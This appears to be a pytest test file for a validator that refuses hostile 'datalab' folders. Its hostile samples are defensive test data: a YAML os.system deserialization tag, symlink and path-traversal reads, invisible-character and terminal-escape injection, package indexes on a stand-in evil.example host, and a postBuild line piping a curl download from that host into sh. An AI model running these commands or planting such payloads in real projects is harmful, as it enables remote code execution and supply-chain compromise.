"""Hostile datalabs made at test time: each class of attack is refused by its rule, with
the file and line, and never with a traceback."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from tests.conftest import CASES, findings_for, rule_ids

MINIMAL = CASES / "valid" / "minimal"


def make(tmp_path: Path, name: str = "hostile") -> Path:
    """A copy of the minimal valid datalab, renamed `name`, to be made hostile."""
    folder = tmp_path / "datalabs" / name
    shutil.copytree(MINIMAL, folder)
    (folder / "expected.yaml").unlink(missing_ok=True)
    metadata = folder / "datalab.yaml"
    metadata.write_text(metadata.read_text().replace("id: minimal", f"id: {name}"))
    return folder


@pytest.mark.parametrize(
    "tagged",
    [
        "keywords: !!set {a, b}",
        "keywords: [!!binary aGVsbG8=]",
        "updated: !!timestamp 2026-01-01",
        "keywords: !!omap [{a: 1}]",
        "keywords: !!pairs [{a: 1}]",
        "keywords: [!local thing]",
        "keywords: [!!python/object/apply:os.system [true]]",
    ],
)
def test_explicit_yaml_tags_are_refused_with_their_line(tmp_path, config, tagged):
    folder = make(tmp_path)
    metadata = folder / "datalab.yaml"
    lines = metadata.read_text().splitlines()
    lines = [line for line in lines if not line.startswith(tagged.split(":")[0] + ":")]
    lines.insert(3, tagged)
    metadata.write_text("\n".join(lines) + "\n")
    findings = findings_for(folder, config)
    assert rule_ids(findings) == ["DL-008"], [f.format() for f in findings]
    assert findings[0].line == 4 and "remove the tag" in findings[0].message


ADVANCED = CASES / "valid" / "advanced-own-dockerfile"


def advanced(tmp_path: Path) -> Path:
    folder = tmp_path / "datalabs" / "advanced-own-dockerfile"
    shutil.copytree(ADVANCED, folder)
    (folder / "expected.yaml").unlink(missing_ok=True)
    return folder


def _dockerfile_link_to_dev_zero(folder: Path) -> None:
    (folder / "Dockerfile").unlink()
    (folder / "Dockerfile").symlink_to("/dev/zero")


def _dockerfile_link_inside_to_big_file(folder: Path) -> None:
    (folder / "data").mkdir(exist_ok=True)
    (folder / "data" / "big").write_bytes(b"FROM jl_base\n" + b"RUN true \\\n" * 200_000)
    (folder / "Dockerfile").unlink()
    (folder / "Dockerfile").symlink_to("data/big")


def _dockerfile_fifo(folder: Path) -> None:
    import os

    (folder / "Dockerfile").unlink()
    os.mkfifo(folder / "Dockerfile")


def _dockerfile_folder(folder: Path) -> None:
    (folder / "Dockerfile").unlink()
    (folder / "Dockerfile").mkdir()
    (folder / "Dockerfile" / "x").write_text("FROM jl_base\n")


def _dockerfile_continuation_bomb(folder: Path) -> None:
    (folder / "Dockerfile").write_bytes(b"FROM jl_base\nRUN true" + b" \\\n  && true" * 500_000 + b"\nUSER 1000\n")


def _dockerfile_not_utf8(folder: Path) -> None:
    (folder / "Dockerfile").write_bytes(b"FROM jl_base\n# caf\xe9\nUSER 1000\n")


@pytest.mark.parametrize(
    "make_hostile, rules",
    [
        (_dockerfile_link_to_dev_zero, {"DL-032", "DL-057"}),
        (_dockerfile_link_inside_to_big_file, {"DL-057"}),
        (_dockerfile_fifo, {"DL-032", "DL-057"}),
        (_dockerfile_folder, {"DL-051"}),
        (_dockerfile_continuation_bomb, {"DL-057"}),
        (_dockerfile_not_utf8, {"DL-057"}),
    ],
    ids=lambda v: v.__name__.strip("_") if callable(v) else None,
)
def test_a_dockerfile_that_cannot_be_read_safely_is_refused_unread(tmp_path, config, make_hostile, rules):
    folder = advanced(tmp_path)
    make_hostile(folder)
    findings = findings_for(folder, config)
    fired = set(rule_ids(findings))
    assert fired and fired <= rules, [f.format() for f in findings]
    assert all(f.message and f.hint for f in findings)


def test_a_notebook_or_screenshot_linked_elsewhere_is_not_read(tmp_path, config):
    folder = make(tmp_path)
    (folder / "screenshots").mkdir(exist_ok=True)
    for name in ("notebooks/zero.ipynb", "screenshots/zero.png"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).symlink_to("/dev/zero")
    findings = findings_for(folder, config)
    assert "DL-032" in rule_ids(findings), [f.format() for f in findings]


def test_reads_never_follow_a_linked_folder(tmp_path):
    from sciapps.safefiles import UnsafeFile, read_inside

    root = tmp_path / "lab"
    root.mkdir()
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.txt").write_text("secret")
    (root / "notebooks").symlink_to(tmp_path / "outside")
    (root / "ok.txt").write_text("fine")
    assert read_inside(root, "ok.txt", 100) == b"fine"
    for relpath in ("notebooks/secret.txt", "../outside/secret.txt", "/etc/passwd", "a//b", ""):
        with pytest.raises(UnsafeFile):
            read_inside(root, relpath, 100)
    with pytest.raises(UnsafeFile, match="over the 3-byte limit"):
        read_inside(root, "ok.txt", 3)


@pytest.mark.parametrize(
    "where, text",
    [
        ("archived", 'status: archived\narchived:\n  reason: The mission archive moved elsewhere.\n  date: "2026-02-30"\n'),
        ("changelog", 'changelog:\n  - version: 0.1.0\n    date: "2026-02-29"\n    changes: [First]\n'),
    ],
)
def test_a_day_that_does_not_exist_is_refused(tmp_path, config, where, text):
    folder = make(tmp_path)
    metadata = folder / "datalab.yaml"
    kept = [line for line in metadata.read_text().splitlines() if not line.startswith(("status:", "changelog:"))]
    metadata.write_text("\n".join(kept) + "\n" + text)
    findings = findings_for(folder, config)
    assert [f.rule_id for f in findings] == ["DL-010"], [f.format() for f in findings]
    assert "is not a 'date'" in findings[0].message and findings[0].path.startswith(f"$.{where}")


UNSAFE = {
    "newline": "\n",
    "carriage return": "\r",
    "escape": "\x1b",
    "NUL-like control": "\x01",
    "DEL": "\x7f",
    "C1 control": "\x85",
    "right-to-left override": "\u202e",
    "left-to-right isolate": "\u2066",
    "zero-width space": "\u200b",
    "zero-width joiner": "\u200d",
    "byte-order mark": "\ufeff",
    "line separator": "\u2028",
}


@pytest.mark.parametrize("field", ["name", "summary", "keywords", "maintainer", "citation"])
@pytest.mark.parametrize("kind", sorted(UNSAFE))
def test_invisible_characters_are_refused_in_names_summaries_and_keywords(tmp_path, config, field, kind):
    import json

    folder = make(tmp_path)
    metadata = folder / "datalab.yaml"
    char = UNSAFE[kind]
    value = json.dumps(f"Gaia{char}HRD")  # JSON escapes are valid YAML double-quoted escapes
    text = metadata.read_text()
    text = {
        "name": lambda t: t.replace("name: Minimal datalab", f"name: {value}"),
        "summary": lambda t: t.replace("summary: Only the required fields, nothing else.", f"summary: {value}"),
        "keywords": lambda t: t + f"keywords: [{value}]\n",
        "maintainer": lambda t: t.replace("name: Ada Example", f"name: {value}"),
        "citation": lambda t: t + f"citation: {{text: {value}}}\n",
    }[field](text)
    metadata.write_text(text)
    findings = findings_for(folder, config)
    ours = [f for f in findings if f.rule_id == "DL-024"]
    if field == "citation" and char in "\n\u200b\u200d\ufeff":  # prose may run over lines and join scripts
        assert ours == [], [f.format() for f in findings]
        return
    assert ours, [f.format() for f in findings]
    assert "U+" in ours[0].message and ours[0].line is not None
    for finding in findings:  # every printed finding stays one line, the character shown escaped
        assert "\n" not in finding.format() and char not in finding.format()


def test_a_folder_name_with_control_characters_is_refused_and_printed_escaped(tmp_path, config):
    folder = make(tmp_path, "gaia\x1b[31mred\nDL-000 fake finding")
    findings = findings_for(folder, config)
    assert "DL-024" in rule_ids(findings)
    assert all("\n" not in f.format() and "\x1b" not in f.format() for f in findings)


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://evil.example/simple",
        "-i https://evil.example/simple",
        "--extra-index-url https://evil.example/simple",
        "--find-links ./wheels",
        "-f https://evil.example/wheels",
        "--trusted-host evil.example",
        "-e git+https://evil.example/x.git#egg=x",
        "-r other.txt",
        "git+https://evil.example/x.git",
        "https://evil.example/x-1.0.tar.gz",
        "x @ https://evil.example/x.whl",
        "./local-package",
        "/abs/path/pkg",
        "numpy --install-option=--prefix=/",
        "numpy \\\n  --index-url=https://evil.example",
    ],
)
def test_build_time_code_in_basic_mode_needs_a_moderators_exception(tmp_path, config, line):
    folder = make(tmp_path)
    (folder / "requirements.txt").write_text(f"# fine\nastropy==6.1.0\n{line}\nnumpy>=1.26 --hash=sha256:{'a' * 64}\n")
    findings = findings_for(folder, config)
    assert rule_ids(findings) == ["DL-058"], [f.format() for f in findings]
    assert findings[0].file.endswith("requirements.txt") and findings[0].line == 3
    metadata = folder / "datalab.yaml"
    metadata.write_text(metadata.read_text() + "exceptions:\n  - rule: DL-058\n    reason: The moderator checked this source.\n")
    assert rule_ids(findings_for(folder, config)) == []


def test_post_build_needs_a_moderators_exception(tmp_path, config):
    folder = make(tmp_path)
    (folder / "postBuild").write_text("#!/bin/sh\ncurl -fsSL https://evil.example/install.sh | sh\n")
    (folder / "requirements.txt").write_text("astropy[all]==6.1.0 ; python_version >= '3.10'\n")
    assert rule_ids(findings_for(folder, config)) == ["DL-058"]
